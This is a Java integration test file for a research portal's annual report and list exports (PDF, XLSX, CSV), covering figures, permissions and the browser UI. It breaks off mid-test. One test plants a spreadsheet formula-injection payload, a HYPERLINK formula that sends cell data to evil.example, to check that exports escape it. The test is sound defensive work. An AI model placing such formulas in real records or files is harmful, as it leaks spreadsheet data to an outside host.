package org.institute.web.it;

import static org.assertj.core.api.Assertions.assertThat;

import jakarta.json.Json;
import jakarta.json.JsonArray;
import jakarta.json.JsonNumber;
import jakarta.json.JsonObject;
import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.io.StringReader;
import java.math.BigDecimal;
import java.net.URL;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.ResourceBundle;
import java.util.stream.Stream;
import javax.imageio.ImageIO;
import org.apache.commons.csv.CSVRecord;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.rendering.PDFRenderer;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.jboss.arquillian.container.test.api.Deployment;
import org.jboss.arquillian.container.test.api.RunAsClient;
import org.jboss.arquillian.junit5.ArquillianExtension;
import org.jboss.arquillian.test.api.ArquillianResource;
import org.jboss.shrinkwrap.api.spec.WebArchive;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.extension.ExtendWith;
import org.openqa.selenium.By;
import org.openqa.selenium.WebElement;
import org.openqa.selenium.chrome.ChromeDriver;
import org.openqa.selenium.support.ui.Select;

/**
 * Exports and the annual report (issue 6, item 6): the report's figures equal the KPI API in PDF,
 * XLSX and CSV; list exports equal their JSON lists, filters and scope included, and never run a
 * formula; a new patent application moves its KPI at once; the reports page in a browser.
 */
@ExtendWith(ArquillianExtension.class)
@ExtendWith(Chromium.class)
@RunAsClient
class ReportsIT {

  private static final String XLSX =
      "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

  private ChromeDriver browser;
  private Portal portal;

  @ArquillianResource private URL base;

  @Deployment(testable = false)
  static WebArchive war() {
    return Deployments.builtWar();
  }

  @BeforeEach
  void open(Chromium chromium) {
    portal = chromium.portal(base);
    browser = portal.driver();
  }

  private Http http() {
    return new Http(base);
  }

  private HttpResponse<byte[]> ok(HttpResponse<byte[]> r) {
    assertThat(r.statusCode()).as(new String(r.body(), StandardCharsets.UTF_8)).isEqualTo(200);
    return r;
  }

  private static String pdfText(byte[] pdf) throws IOException {
    try (PDDocument document = Loader.loadPDF(pdf)) {
      PDFTextStripper stripper = new PDFTextStripper();
      stripper.setSortByPosition(true);
      return stripper.getText(document);
    }
  }

  private static String squeezed(String text) {
    return text.replaceAll("\\s+", "");
  }

  /** A label as the portal shows it, from the message bundle of that language. */
  private static String label(String key, java.util.Locale language) {
    return ResourceBundle.getBundle(
            "i18n.messages",
            language,
            ResourceBundle.Control.getNoFallbackControl(ResourceBundle.Control.FORMAT_PROPERTIES))
        .getString(key);
  }

  private static String english(String key) {
    return label(key, java.util.Locale.ROOT);
  }

  /** No character the font could not print: no replacement character, no '?' for Chinese text. */
  private static void printedWhole(String text) {
    assertThat(text)
        .doesNotContain("\uFFFD", "??")
        .doesNotContainPattern("\\d\\?\\d")
        .doesNotContainPattern("\\p{IsHan}\\?|\\?\\p{IsHan}");
  }

  private static String grouped(long n) {
    return String.format(java.util.Locale.ENGLISH, "%,d", n);
  }

  private JsonArray kpis(String token) throws Exception {
    HttpResponse<String> r = http().get("api/v1/kpis", token);
    assertThat(r.statusCode()).as(r.body()).isEqualTo(200);
    return Json.createReader(new StringReader(r.body())).readArray();
  }

  private static Optional<Long> actual(JsonObject kpi) {
    return kpi.containsKey("actual") && kpi.get("actual") instanceof JsonNumber n
        ? Optional.of(n.longValue())
        : Optional.empty();
  }

  /** How many rows the list matches, asked as {@code ?count=exact} (decision 0095). */
  private long total(String path, String token) throws Exception {
    return Http.json(http().get(path + "&count=exact", token)).getJsonNumber("total").longValue();
  }

  private long centreId(String code, String token) throws Exception {
    return Json.createReader(new StringReader(http().get("api/v1/centres", token).body()))
        .readArray()
        .getValuesAs(JsonObject.class)
        .stream()
        .filter(c -> c.getString("code").equals(code))
        .findFirst()
        .orElseThrow()
        .getJsonNumber("id")
        .longValue();
  }

  @Test
  void theAnnualReportPdfIsBilingualAndItsFiguresEqualTheKpiApi() throws Exception {
    String council = http().tokenFor("council");
    JsonArray kpis = kpis(council);

    HttpResponse<byte[]> r =
        ok(http().download("api/v1/reports/annual?year=2020&format=pdf", council, null));

    assertThat(r.headers().firstValue("Content-Type"))
        .get()
        .asString()
        .startsWith("application/pdf");
    assertThat(r.headers().firstValue("Content-Disposition"))
        .get()
        .asString()
        .contains("attachment", "annual-report-2020.pdf");
    String text = pdfText(r.body());
    assertThat(squeezed(text))
        .contains("AnnualReport2020totheGoverningCouncil", "2020年度理事会报告")
        .contains("Keyperformanceindicators", "关键绩效指标")
        .contains("Researchprojectsandpublicationsof2020", "2020年研究项目与论文")
        .contains("IPlicensing", "知识产权许可")
        .contains("Progressagainsttargets/目标完成进度");
    assertThat(kpis).isNotEmpty();
    for (JsonObject kpi : kpis.getValuesAs(JsonObject.class)) {
      String code = kpi.getString("code");
      String line =
          text.lines()
              .filter(l -> l.contains(code))
              .findFirst()
              .orElseThrow(() -> new AssertionError("no row for " + code + " in\n" + text));
      List<String> cells = List.of(line.trim().split("\\s+"));
      assertThat(cells).as(line).contains(grouped(kpi.getJsonNumber("target").longValue()));
      actual(kpi).ifPresent(a -> assertThat(cells).as(line).contains(grouped(a)));
      // the status as the reader's label, never its code
      assertThat(line).contains(english("kpi.status." + kpi.getString("status")));
      assertThat(text).doesNotContain(kpi.getString("status") + " ");
    }
    printedWhole(text);
    assertThat(text).contains("–");
    // the research section counts what the lists of the year hold
    long projects = total("api/v1/projects?year=2020&limit=1", council);
    long papers = total("api/v1/publications?year=2020&limit=1", council);
    assertThat(squeezed(text))
        .contains(projects + "researchprojectsstartedand" + papers + "paperswerepublishedin2020.");
  }

  @Test
  void theAnnualReportXlsxAndCsvHoldTheSameFiguresAsTheKpiApi() throws Exception {
    String auditor = http().tokenFor("auditor");
    JsonArray kpis = kpis(auditor);

    HttpResponse<byte[]> xlsx =
        ok(http().download("api/v1/reports/annual?year=2020&format=xlsx", auditor, null));
    assertThat(xlsx.headers().firstValue("Content-Type")).get().asString().startsWith(XLSX);
    try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx.body()))) {
      Sheet sheet = workbook.getSheet("KPIs");
      assertThat(sheet).as("a sheet per table").isNotNull();
      assertThat(workbook.getSheet("Licensing figures")).isNotNull();
      assertThat(sheet.getRow(0).getCell(0).getStringCellValue()).contains("KPIs / 关键绩效指标");
      assertThat(sheet.getRow(1).getCell(4).getStringCellValue()).isEqualTo("Target (目标)");
      for (JsonObject kpi : kpis.getValuesAs(JsonObject.class)) {
        Row row = null;
        for (int i = 2; i <= sheet.getLastRowNum(); i++) {
          if (sheet.getRow(i).getCell(0).getStringCellValue().equals(kpi.getString("code"))) {
            row = sheet.getRow(i);
          }
        }
        assertThat(row).as(kpi.getString("code")).isNotNull();
        assertThat((long) row.getCell(4).getNumericCellValue())
            .isEqualTo(kpi.getJsonNumber("target").longValue());
        Row found = row;
        actual(kpi)
            .ifPresent(a -> assertThat((long) found.getCell(5).getNumericCellValue()).isEqualTo(a));
        assertThat(row.getCell(8).getStringCellValue())
            .as("the status's label, not its code")
            .isEqualTo(english("kpi.status." + kpi.getString("status")));
      }
    }

    HttpResponse<byte[]> csv =
        ok(http().download("api/v1/reports/annual?year=2020&format=csv", auditor, null));
    assertThat(csv.headers().firstValue("Content-Type")).get().asString().startsWith("text/csv");
    List<CSVRecord> records = Exports.csv(csv.body());
    for (JsonObject kpi : kpis.getValuesAs(JsonObject.class)) {
      CSVRecord record =
          records.stream()
              .filter(c -> c.get(0).equals(kpi.getString("code")))
              .findFirst()
              .orElseThrow();
      assertThat(record.get(4)).isEqualTo(Long.toString(kpi.getJsonNumber("target").longValue()));
      actual(kpi).ifPresent(a -> assertThat(record.get(5)).isEqualTo(Long.toString(a)));
    }
  }

  /** The funding API's by-year rows summed as the report does: the year alone, or up to its end. */
  private static BigDecimal fundingSum(
      JsonArray byYear, int year, boolean cumulative, String column, String currency) {
    BigDecimal sum = BigDecimal.ZERO;
    for (JsonObject row : byYear.getValuesAs(JsonObject.class)) {
      int key = Integer.parseInt(row.getString("key"));
      if (cumulative ? key <= year : key == year) {
        JsonObject figure =
            row.getJsonObject(column).getJsonObject(currency.toLowerCase(java.util.Locale.ROOT));
        if (!figure.containsKey("amount") || figure.isNull("amount")) {
          return null; // no rate for some day: the report must not print a partial sum
        }
        sum = sum.add(figure.getJsonNumber("amount").bigDecimalValue());
      }
    }
    return sum;
  }

  /** Funder code (or "Total") to its by-year rows, as {@code GET /api/v1/funding} reports them. */
  private Map<String, JsonArray> fundingByYear(String token) throws Exception {
    Map<String, String> codes = new java.util.HashMap<>();
    for (JsonObject p :
        Http.json(http().get("api/v1/partners?limit=200", token))
            .getJsonArray("items")
            .getValuesAs(JsonObject.class)) {
      codes.put(Long.toString(p.getJsonNumber("id").longValue()), p.getString("code"));
    }
    JsonObject all = Http.json(http().get("api/v1/funding?limit=1", token));
    Map<String, JsonArray> byYear = new java.util.LinkedHashMap<>();
    byYear.put("Total", all.getJsonArray("byYear"));
    for (JsonObject funder : all.getJsonArray("byFunder").getValuesAs(JsonObject.class)) {
      String id = funder.getString("key");
      byYear.put(
          codes.get(id),
          Http.json(http().get("api/v1/funding?funder=" + id + "&limit=1", token))
              .getJsonArray("byYear"));
    }
    return byYear;
  }

  /** An amount as the report prints it; none (no exchange rate) is a dash. */
  private static String money(BigDecimal amount) {
    if (amount == null) {
      return "—";
    }
    return new java.text.DecimalFormat(
            "#,##0.00", java.text.DecimalFormatSymbols.getInstance(java.util.Locale.ENGLISH))
        .format(amount);
  }

  @Test
  void aChineseReaderGetsTheAnnualReportPdfWithChineseLabelsAndEveryCharacterPrinted()
      throws Exception {
    String council = http().tokenFor("council");
    JsonArray kpis = kpis(council);
    java.util.Locale zh = java.util.Locale.SIMPLIFIED_CHINESE;

    HttpResponse<byte[]> r =
        ok(
            Http.download(
                http()
                    .request("api/v1/reports/annual?year=2022&format=pdf", council)
                    .header("Accept-Language", "zh-CN,zh;q=0.9,en;q=0.5")
                    .GET()
                    .build()));

    String text = pdfText(r.body());
    assertThat(squeezed(text)).contains("2022年度理事会报告", "中新国际联合研究院", "总部空间与衍生企业", "整栋楼");
    for (JsonObject kpi : kpis.getValuesAs(JsonObject.class)) {
      assertThat(squeezed(text))
          .contains(squeezed(label("kpi.status." + kpi.getString("status"), zh)));
      assertThat(text).doesNotContain(kpi.getString("status") + " ");
    }
    assertThat(squeezed(text)).contains(squeezed(label("spaceUse.RD_FACILITY", zh)));
    assertThat(text).doesNotContain("RD_FACILITY", "Whole building");
    printedWhole(text);
  }

  @Test
  void theFundingAndSpaceSectionsEqualTheFundingAndSpaceApis() throws Exception {
    String council = http().tokenFor("council");
    int year = 2022;
    Map<String, JsonArray> funding = fundingByYear(council);
    assertThat(funding).hasSizeGreaterThanOrEqualTo(5).containsKeys("Total", "NTU", "SCUT");
    JsonObject space = Http.json(http().get("api/v1/space?at=" + year + "-12-31", council));
    List<JsonObject> uses = space.getJsonArray("uses").getValuesAs(JsonObject.class);
    assertThat(uses).isNotEmpty();
    long founded = 0;
    long foundedInYear = 0;
    for (JsonObject s :
        Http.json(http().get("api/v1/spin-offs?limit=200", council))
            .getJsonArray("items")
            .getValuesAs(JsonObject.class)) {
      java.time.LocalDate on = java.time.LocalDate.parse(s.getString("foundedOn"));
      if (on.getYear() <= year) {
        founded++;
        foundedInYear += on.getYear() == year ? 1 : 0;
      }
    }
    String[] columns = {"committed", "disbursed", "spent"};

    // PDF: a row per funder, period and currency, figures as printed
    String text =
        pdfText(
            ok(http().download("api/v1/reports/annual?year=" + year + "&format=pdf", council, null))
                .body());
    assertThat(squeezed(text))
        .contains("Funding:committed,disbursedandspent", "资金：承诺、拨付与支出")
        .contains("Headquartersspaceandspin-offs", "总部空间与衍生企业");
    for (Map.Entry<String, JsonArray> funder : funding.entrySet()) {
      for (boolean cumulative : new boolean[] {false, true}) {
        for (String currency : List.of("SGD", "CNY")) {
          List<String> cells =
              text.lines()
                  .map(l -> List.of(l.trim().split("\\s+")))
                  .filter(
                      c ->
                          c.size() == 6
                              && c.get(0).equals(funder.getKey())
                              && c.get(2).equals(currency)
                              && c.get(1).endsWith(Integer.toString(year))
                              && (c.get(1).length() > 4) == cumulative)
                  .findFirst()
                  .orElseThrow(
                      () ->
                          new AssertionError(
                              "no row " + funder.getKey() + " " + currency + " in\n" + text));
          for (int i = 0; i < columns.length; i++) {
            assertThat(cells.get(3 + i))
                .as(cells.toString())
                .isEqualTo(
                    money(fundingSum(funder.getValue(), year, cumulative, columns[i], currency)));
          }
        }
      }
    }
    assertThat(money(fundingSum(funding.get("Total"), 2025, true, "committed", "SGD")))
        .as("over the whole phase, the S$61 million and more")
        .isNotEqualTo("0.00");
    for (JsonObject use : uses) {
      String line =
          text.lines()
              .filter(l -> l.trim().startsWith(english("spaceUse." + use.getString("use")) + " "))
              .findFirst()
              .orElseThrow(
                  () -> new AssertionError("no row for " + use.getString("use") + " in\n" + text));
      assertThat(text).doesNotContain(use.getString("use"));
      assertThat(List.of(line.trim().split("\\s+")))
          .as(line)
          .containsSubsequence(
              grouped(use.getInt("unitsSqm")),
              grouped(use.getInt("allocatedSqm")),
              grouped(use.getInt("freeSqm")));
    }
    String building =
        text.lines().filter(l -> l.trim().startsWith("Whole building ")).findFirst().orElseThrow();
    printedWhole(text);
    assertThat(List.of(building.trim().split("\\s+")))
        .containsSubsequence(
            grouped(space.getInt("buildingSqm")),
            grouped(space.getInt("allocatedSqm")),
            grouped(space.getInt("freeSqm")));
    String spinOffs =
        text.lines()
            .filter(l -> l.contains("Spin-off companies founded"))
            .findFirst()
            .orElseThrow();
    List<String> spinOffCells = List.of(spinOffs.trim().split("\\s+"));
    assertThat(spinOffCells.subList(spinOffCells.size() - 2, spinOffCells.size()))
        .containsExactly(grouped(foundedInYear), grouped(founded));

    // XLSX: a sheet per table, numbers as numbers
    try (XSSFWorkbook workbook =
        new XSSFWorkbook(
            new ByteArrayInputStream(
                ok(http()
                        .download(
                            "api/v1/reports/annual?year=" + year + "&format=xlsx", council, null))
                    .body()))) {
      Sheet sheet = workbook.getSheet("Funding by funder");
      assertThat(sheet).isNotNull();
      assertThat(sheet.getRow(1).getCell(3).getStringCellValue()).isEqualTo("Committed (承诺)");
      int checked = 0;
      for (int r = 2; r <= sheet.getLastRowNum(); r++) {
        Row row = sheet.getRow(r);
        JsonArray byYear = funding.get(row.getCell(0).getStringCellValue());
        boolean cumulative = row.getCell(1).getStringCellValue().length() > 4;
        for (int i = 0; i < columns.length; i++) {
          BigDecimal expected =
              fundingSum(byYear, year, cumulative, columns[i], row.getCell(2).getStringCellValue());
          org.apache.poi.ss.usermodel.Cell cell = row.getCell(3 + i);
          if (expected == null) {
            assertThat(cell == null ? "" : cell.toString()).as("no rate: no figure").isBlank();
          } else {
            assertThat(BigDecimal.valueOf(cell.getNumericCellValue()))
                .isEqualByComparingTo(expected);
          }
        }
        checked++;
      }
      assertThat(checked).isEqualTo(funding.size() * 4);
      Sheet spaceSheet = workbook.getSheet("Space by use");
      for (JsonObject use : uses) {
        Row row = null;
        for (int r = 2; r <= spaceSheet.getLastRowNum(); r++) {
          if (spaceSheet
              .getRow(r)
              .getCell(0)
              .getStringCellValue()
              .equals(english("spaceUse." + use.getString("use")))) {
            row = spaceSheet.getRow(r);
          }
        }
        assertThat(row).as(use.getString("use")).isNotNull();
        assertThat((int) row.getCell(1).getNumericCellValue()).isEqualTo(use.getInt("unitsSqm"));
        assertThat((int) row.getCell(2).getNumericCellValue())
            .isEqualTo(use.getInt("allocatedSqm"));
        assertThat((int) row.getCell(3).getNumericCellValue()).isEqualTo(use.getInt("freeSqm"));
      }
      assertThat((long) workbook.getSheet("Spin-offs").getRow(2).getCell(3).getNumericCellValue())
          .isEqualTo(founded);
    }

    // CSV: the same tables one after another
    List<CSVRecord> csv =
        Exports.csv(
            ok(http().download("api/v1/reports/annual?year=" + year + "&format=csv", council, null))
                .body());
    for (Map.Entry<String, JsonArray> funder : funding.entrySet()) {
      List<CSVRecord> rows =
          csv.stream().filter(c -> c.size() == 6 && c.get(0).equals(funder.getKey())).toList();
      assertThat(rows).as(funder.getKey()).hasSize(4);
      for (CSVRecord row : rows) {
        for (int i = 0; i < columns.length; i++) {
          BigDecimal expected =
              fundingSum(funder.getValue(), year, row.get(1).length() > 4, columns[i], row.get(2));
          if (expected == null) {
            assertThat(row.get(3 + i)).as(row + ": no rate, no figure").isEmpty();
          } else {
            assertThat(new BigDecimal(row.get(3 + i)))
                .as(row.toString())
                .isEqualByComparingTo(expected);
          }
        }
      }
    }
    CSVRecord total =
        csv.stream().filter(c -> c.get(0).equals("Whole building")).findFirst().orElseThrow();
    assertThat(total.get(1)).isEqualTo(Integer.toString(space.getInt("buildingSqm")));
    assertThat(total.get(2)).isEqualTo(Integer.toString(space.getInt("allocatedSqm")));
    assertThat(total.get(3)).isEqualTo(Integer.toString(space.getInt("freeSqm")));
  }

  @Test
  void onlyAdminsTheCouncilAndAuditorsGetTheAnnualReportAndBadParametersAreRefused()
      throws Exception {
    Expect.problem(
        http().get("api/v1/reports/annual?year=2020&format=pdf", http().tokenFor("ntu.staff")),
        403);
    Expect.problem(
        http().get("api/v1/reports/annual?year=2020", http().tokenFor("coordinator")), 403);
    Expect.problem(http().get("api/v1/reports/annual?year=2020", null), 401);
    String admin = http().tokenFor("admin");
    assertThat(ok(http().download("api/v1/reports/annual?year=2021", admin, null)).body())
        .as("PDF is the default")
        .startsWith("%PDF".getBytes(StandardCharsets.US_ASCII));
    Expect.violations(
        http().get("api/v1/reports/annual?year=1999&format=pdf", admin), "year:field.outOfRange");
    Expect.violations(http().get("api/v1/reports/annual?format=pdf", admin), "year:field.required");
    Expect.violations(http().get("api/v1/reports/annual?year=abc", admin), "year:field.notInteger");
    Expect.violations(
        http().get("api/v1/reports/annual?year=2020&format=docx", admin),
        "format:field.notAllowedValue");
    // a list has no PDF: not acceptable, as a problem
    Expect.problem(http().get("api/v1/projects?format=pdf", admin), 406);
  }

  @Test
  void aCsvExportOfAFilteredListEqualsTheFilteredJsonList() throws Exception {
    String admin = http().tokenFor("admin");
    long centre = centreId("DIGITAL", admin);
    String filter = "api/v1/projects?centre=" + centre + "&sort=titleEn";

    JsonObject json = Http.json(http().get(filter + "&limit=200&count=exact", admin));
    List<JsonObject> items = json.getJsonArray("items").getValuesAs(JsonObject.class);
    assertThat(items).isNotEmpty();
    assertThat(json.getJsonNumber("total").longValue())
        .isLessThan(total("api/v1/projects?limit=1", admin));

    HttpResponse<byte[]> r = ok(http().download(filter + "&format=csv", admin, null));
    assertThat(r.headers().firstValue("Content-Type"))
        .get()
        .asString()
        .isEqualTo("text/csv;charset=UTF-8");
    assertThat(r.headers().firstValue("Content-Disposition"))
        .get()
        .asString()
        .isEqualTo("attachment; filename=\"projects.csv\"");
    List<CSVRecord> records = Exports.csv(r.body());
    assertThat(records.get(0).values())
        .containsExactly(
            "id",
            "titleEn",
            "titleZh",
            "centreCode",
            "partners",
            "startDate",
            "endDate",
            "budgetAmount",
            "budgetCurrency",
            "status",
            "approvalReference");
    List<CSVRecord> rows = records.subList(1, records.size());
    assertThat(rows).hasSize(items.size());
    for (int i = 0; i < items.size(); i++) {
      JsonObject p = items.get(i);
      Map<String, String> c = Exports.named(records, rows.get(i));
      assertThat(c.get("id")).isEqualTo(Long.toString(p.getJsonNumber("id").longValue()));
      assertThat(c.get("titleEn")).isEqualTo(p.getString("titleEn"));
      assertThat(c.get("titleZh")).isEqualTo(p.isNull("titleZh") ? "" : p.getString("titleZh"));
      assertThat(c.get("centreCode")).isEqualTo("DIGITAL");
      assertThat(c.get("startDate")).isEqualTo(p.getString("startDate"));
      assertThat(new BigDecimal(c.get("budgetAmount")))
          .isEqualByComparingTo(p.getJsonNumber("budgetAmount").bigDecimalValue());
      assertThat(c.get("budgetCurrency")).isEqualTo(p.getString("budgetCurrency"));
      assertThat(c.get("status")).isEqualTo(p.getString("status"));
    }

    // the same list by content negotiation, as XLSX, and JSON stays the default
    HttpResponse<byte[]> xlsx = ok(http().download(filter, admin, XLSX));
    try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx.body()))) {
      Sheet sheet = workbook.getSheetAt(0);
      assertThat(sheet.getLastRowNum()).isEqualTo(items.size());
      assertThat((long) sheet.getRow(1).getCell(0).getNumericCellValue())
          .isEqualTo(items.get(0).getJsonNumber("id").longValue());
    }
    HttpResponse<byte[]> plain = ok(http().download(filter, admin, null));
    assertThat(plain.headers().firstValue("Content-Type"))
        .get()
        .asString()
        .startsWith("application/json");

    // the dashboard, centres, papers and the other modules' lists export the same way
    for (String list :
        List.of(
            "api/v1/kpis",
            "api/v1/centres",
            "api/v1/publications?year=2020",
            "api/v1/licence-deals",
            "api/v1/patents",
            "api/v1/cohorts")) {
      HttpResponse<byte[]> export =
          ok(http().download(list + (list.contains("?") ? "&" : "?") + "format=csv", admin, null));
      assertThat(Exports.csv(export.body())).as(list).hasSizeGreaterThan(1);
    }
    List<CSVRecord> deals =
        Exports.csv(ok(http().download("api/v1/licence-deals?format=csv", admin, null)).body());
    assertThat(deals.get(0).values()).contains("totalValue", "currency");
    assertThat(deals.size() - 1).isEqualTo((int) total("api/v1/licence-deals?limit=1", admin));
    List<CSVRecord> papers =
        Exports.csv(
            ok(http().download("api/v1/publications?year=2020&format=csv", admin, null)).body());
    assertThat(papers.size() - 1)
        .isEqualTo((int) total("api/v1/publications?year=2020&limit=1", admin));
    Expect.violations(
        http().get("api/v1/projects?format=html", admin), "format:field.notAllowedValue");
  }

  @Test
  void anExportNeverRunsAFormulaSomeoneTypedIntoARecord() throws Exception {
    String admin = http().tokenFor("admin");
    long project =
        Http.json(http().get("api/v1/projects?limit=1", admin))
            .getJsonArray("items")
            .getJsonObject(0)
            .getJsonNumber("id")
            .longValue();
    String title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
    HttpResponse<String> created =
        http()
            .json(
                "POST",
                "api/v1/publications",
                admin,
                Json.createObjectBuilder()
                    .add("title", title)
                    .add("journal", "+Journal of Injection")
                    .add("year", 2024)
                    .add("doi", "10.5555/csv." + System.nanoTime())
                    .add("authors", "@Mallory; -Eve")
                    .add("project", project)
                    .build()
                    .toString());
    assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
    long id = Http.json(created).getJsonNumber("id").longValue();

    List<CSVRecord> records =
        Exports.csv(
            ok(http()
                    .download(
                        "api/v1/publications?project=" + project + "&format=csv", admin, null))
                .body());
    CSVRecord row =
        records.stream().filter(c -> c.get(0).equals(Long.toString(id))).findFirst().orElseThrow();
    Map<String, String> cells = Exports.named(records, row);
    assertThat(cells.get("title")).isEqualTo("'" + title);
    assertThat(cells.get("journal")).isEqualTo("'+Journal of Injection");
    assertThat(cells.get("authors")).isEqualTo("'@Mallory; -Eve");
    // the record itself is kept as typed
    String json = http().get("api/v1/publications?project=" + project + "&limit=200", admin).body();
    assertThat(
            Json.createReader(new StringReader(json))
                .readObject()
                .getJsonArray("items")
                .getValuesAs(JsonObject.class))
        .anySatisfy(p -> assertThat(p.getString("title")).isEqualTo(title));
  }

  @Test
  void aPartnersExportHoldsOnlyWhatItsStaffMaySee() throws Exception {
    String admin = http().tokenFor("admin");
    String ntuStaff = http().tokenFor("ntu.staff");

    List<String> own = new ArrayList<>();
    for (JsonObject p :
        Http.json(http().get("api/v1/projects?limit=200", ntuStaff))
            .getJsonArray("items")
            .getValuesAs(JsonObject.class)) {
      own.add(Long.toString(p.getJsonNumber("id").longValue()));
    }
    List<String> all = new ArrayList<>();
    for (CSVRecord c :
        Exports.csv(ok(http().download("api/v1/projects?format=csv", admin, null)).body())) {
      all.add(c.get(0));
    }
    List<CSVRecord> exported =
        Exports.csv(ok(http().download("api/v1/projects?format=csv", ntuStaff, null)).body());
    List<String> exportedIds = exported.stream().skip(1).map(c -> c.get(0)).toList();

    assertThat(exportedIds).containsExactlyInAnyOrderElementsOf(own);
    assertThat(exportedIds.size()).isLessThan(all.size() - 1);
    assertThat(exported.stream().skip(1))
        .allSatisfy(c -> assertThat(Exports.named(exported, c).get("partners")).contains("NTU"));
    // papers are scoped with their projects; KPIs and other partners' deals stay closed
    long ntuPapers = total("api/v1/publications?limit=1", ntuStaff);
    assertThat(
            Exports.csv(
                ok(http().download("api/v1/publications?format=csv", ntuStaff, null)).body()))
        .hasSize((int) ntuPapers + 1);
    Expect.problem(http().get("api/v1/kpis?format=csv", ntuStaff), 403);
    String gkcStaff = http().tokenFor("gkc.staff");
    long gkcDeals = total("api/v1/licence-deals?limit=1", gkcStaff);
    assertThat(gkcDeals).isLessThan(total("api/v1/licence-deals?limit=1", admin));
    assertThat(
            Exports.csv(
                ok(http().download("api/v1/licence-deals?format=csv", gkcStaff, null)).body()))
        .hasSize((int) gkcDeals + 1);
    Expect.problem(http().get("api/v1/projects?format=csv", http().tokenFor("coordinator")), 403);
    Expect.problem(http().get("api/v1/projects?format=csv", null), 401);
  }

  @Test
  void addingAPatentApplicationMovesThePatentApplicationsKpiAtOnce() throws Exception {
    String admin = http().tokenFor("admin");
    long before = actual(kpi(kpis(admin), "PATENTS_2025")).orElseThrow();
    // a family whose priority date comes before the filing (other tests add families of today)
    JsonObject family =
        Http.json(http().get("api/v1/patents?sort=reference&limit=50", admin))
            .getJsonArray("items")
            .getValuesAs(JsonObject.class)
            .stream()
            .filter(f -> !f.isNull("priorityDate"))
            .filter(f -> f.getString("priorityDate").compareTo("2025-06-30") <= 0)
            .findFirst()
            .orElseThrow();
    long familyId = family.getJsonNumber("id").longValue();

    HttpResponse<String> filed =
        http()
            .json(
                "POST",
                "api/v1/patents/" + familyId + "/applications",
                admin,
                """
            {"jurisdiction":"JP","applicationNumber":"JP2025-%d","filingDate":"2025-06-30",
             "status":"FILED"}
            """
                    .formatted(System.nanoTime() % 1_000_000));
    assertThat(filed.statusCode()).as(filed.body()).isEqualTo(201);

    JsonObject after = kpi(kpis(http().tokenFor("council")), "PATENTS_2025");
    assertThat(actual(after)).contains(before + 1);
    assertThat(after.getJsonObject("byYear").getJsonNumber("2025").longValue()).isPositive();
    // the annual report of that year counts it too
    List<CSVRecord> report =
        Exports.csv(
            ok(http().download("api/v1/reports/annual?year=2025&format=csv", admin, null)).body());
    CSVRecord kpiRow =
        report.stream().filter(c -> c.get(0).equals("PATENTS_2025")).findFirst().orElseThrow();
    assertThat(kpiRow.get(5)).isEqualTo(Long.toString(before + 1));
  }

  private static JsonObject kpi(JsonArray kpis, String code) {
    return kpis.getValuesAs(JsonObject.class).stream()
        .filter(k -> k.getString("code").equals(code))
        .findFirst()
        .orElseThrow(() -> new AssertionError("no KPI " + code));
  }

  // --- the portal

  /** Waits for a finished download whose name ends so, and returns its bytes. */
  private byte[] downloaded(String suffix) {
    Path[] found = new Path[1];
    Browser.waitFor(browser)
        .until(
            d -> {
              try (Stream<Path> files = Files.list(portal.downloads())) {
                found[0] =
                    files
                        .filter(f -> f.getFileName().toString().endsWith(suffix))
                        .findFirst()
                        .orElse(null);
                return found[0] != null && Files.size(found[0]) > 0;
              } catch (IOException e) {
                return false;
              }
            });
    try {
      byte[] bytes = Files.readAllBytes(found[0]);
      Files.delete(found[0]);
      return bytes;
    } catch (IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }

  @Test
  void aCouncilMemberGeneratesTheAnnualReportWatchesItsProgressAndDownloadsIt() throws Exception {
    portal.signInAs("council");
    browser.findElement(By.cssSelector("[data-menu='menu-reports']")).click();
    Browser.until(browser, By.id("report:generate"));
    Browser.language(browser, "en");
    assertThat(browser.findElement(By.tagName("h1")).getText()).isEqualTo("Reports");
    WebElement year = browser.findElement(By.id("report:year"));
    year.clear();
    year.sendKeys("1999");
    browser.findElement(By.id("report:generate")).click();
    Browser.waitFor(browser)
        .until(d -> !d.findElement(By.id("report:yearMessage")).getText().isBlank());
    assertThat(browser.findElement(By.id("report:yearMessage")).getText())
        .isEqualTo("Enter a year from 2015 to 2200.");

    year = browser.findElement(By.id("report:year"));
    year.clear();
    year.sendKeys("2020");
    new Select(browser.findElement(By.id("report:format"))).selectByValue("pdf");
    Browser.screenshot(browser, "55-reports");
    browser.findElement(By.id("report:generate")).click();
    // the first report loads the CJK font: give a busy machine time
    new org.openqa.selenium.support.ui.WebDriverWait(browser, Duration.ofSeconds(120))
        .until(
            org.openqa.selenium.support.ui.ExpectedConditions.presenceOfElementLocated(
                By.id("report:download")));
    Browser.waitFor(browser)
        .until(
            d ->
                "100%"
                    .equals(
                        d.findElement(By.id("report:progressText")).getAttribute("textContent")));
    assertThat(browser.findElement(By.id("report-ready")).getText())
        .contains("annual-report-2020.pdf");
    Browser.screenshot(browser, "56-report-ready");

    browser.findElement(By.id("report:download")).click();
    byte[] pdf = downloaded("annual-report-2020.pdf");
    assertThat(squeezed(pdfText(pdf))).contains("AnnualReport2020", "2020年度理事会报告");
    try (PDDocument document = Loader.loadPDF(pdf)) {
      Path dir = Path.of(System.getProperty("it.screenshots", "target/screenshots"));
      Files.createDirectories(dir);
      ImageIO.write(
          new PDFRenderer(document).renderImageWithDPI(0, 80),
          "png",
          dir.resolve("59-annual-report-pdf.png").toFile());
    }

    // the lists export from the same page, in the caller's scope
    browser.findElement(By.cssSelector("tr[data-list='projects'] button[id$='csv']")).click();
    List<CSVRecord> projects = Exports.csv(downloaded("projects.csv"));
